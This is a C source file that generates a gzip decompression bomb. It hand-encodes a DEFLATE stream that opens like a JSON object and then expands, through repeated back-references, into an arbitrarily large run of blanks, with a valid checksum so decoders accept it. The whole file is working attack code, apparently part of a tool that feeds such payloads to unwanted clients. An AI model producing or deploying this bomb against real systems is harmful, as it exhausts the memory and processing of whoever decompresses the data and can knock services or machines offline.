/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * A gzip bomb, written by hand (RFC 1951, 1952), so that making it needs
 * no gigabyte.
 *
 * One block with the fixed Huffman codes: the literals of a beginning,
 * one blank, then again and again "258 bytes from one byte back": length
 * code 285 (8 bits) and distance code 0 (5 bits), 13 bits for 258 bytes.
 */
#include <libdeflate.h>
#include <stdlib.h>
#include <string.h>

#include "spoil.h"

enum { COPY_BYTES = 258, CHUNK_BYTES = 1 << 16 };

static const char beginning[] = "{\"entities\":{ ";

struct bits {
    unsigned char *out;
    size_t length;
    uint32_t waiting;
    unsigned count;
};

static void put(struct bits *bits, uint32_t value, unsigned count)
{
    bits->waiting |= value << bits->count;
    bits->count += count;
    while (bits->count >= 8) {
        bits->out[bits->length++] = (unsigned char)bits->waiting;
        bits->waiting >>= 8;
        bits->count -= 8;
    }
}

/* Huffman codes go out with their highest bit first. */
static void put_code(struct bits *bits, uint32_t code, unsigned count)
{
    while (count > 0)
        put(bits, code >> --count & 1, 1);
}

static void put_number(struct bits *bits, uint32_t number)
{
    for (int i = 0; i < 4; i++)
        put(bits, number >> (8 * i) & 0xff, 8);
}

/* "258 bytes from one byte back", `copies` times. Eight of them are 13
 * whole bytes, so what came out last is what comes next. */
static void put_copies(struct bits *bits, uint64_t copies)
{
    uint64_t slowly = copies < 16 ? copies : 16 + copies % 8;

    for (uint64_t i = 0; i < slowly; i++) {
        put_code(bits, 0xc5, 8); /* 285: 258 bytes */
        put_code(bits, 0, 5);    /* from 1 byte back */
    }
    for (uint64_t left = copies - slowly; left > 0; left -= 8) {
        memcpy(bits->out + bits->length, bits->out + bits->length - 13, 13);
        bits->length += 13;
    }
}

/* The CRC of the beginning and all its blanks. */
static uint32_t crc_of(uint64_t blanks)
{
    unsigned char chunk[CHUNK_BYTES];
    uint32_t crc = libdeflate_crc32(0, beginning, sizeof beginning - 1);

    memset(chunk, ' ', sizeof chunk);
    while (blanks > 0) {
        size_t some = blanks < sizeof chunk ? (size_t)blanks : sizeof chunk;

        crc = libdeflate_crc32(crc, chunk, some);
        blanks -= some;
    }
    return crc;
}

struct blob *bomb_make(uint64_t bytes)
{
    static const unsigned char header[] = {0x1f, 0x8b, 8, 0, 0,
                                           0,    0,    0, 0, 255};
    uint64_t copies = bytes / COPY_BYTES;
    struct blob *blob = malloc(sizeof *blob + (size_t)(copies * 13 / 8) + 128);
    struct bits bits = {0};

    if (blob == NULL)
        return NULL;
    memcpy(blob->bytes, header, sizeof header);
    bits.out = blob->bytes;
    bits.length = sizeof header;
    put(&bits, 1, 1); /* the last block */
    put(&bits, 1, 2); /* fixed codes */
    for (const char *c = beginning; *c; c++)
        put_code(&bits, 0x30 + (uint32_t)(unsigned char)*c, 8);
    put_copies(&bits, copies);
    put_code(&bits, 0, 7); /* end of block */
    put(&bits, 0, (8 - bits.count) % 8);
    put_number(&bits, crc_of(copies * COPY_BYTES));
    put_number(&bits, (uint32_t)(copies * COPY_BYTES + sizeof beginning - 1));
    blob->length = bits.length;
    return blob;
}
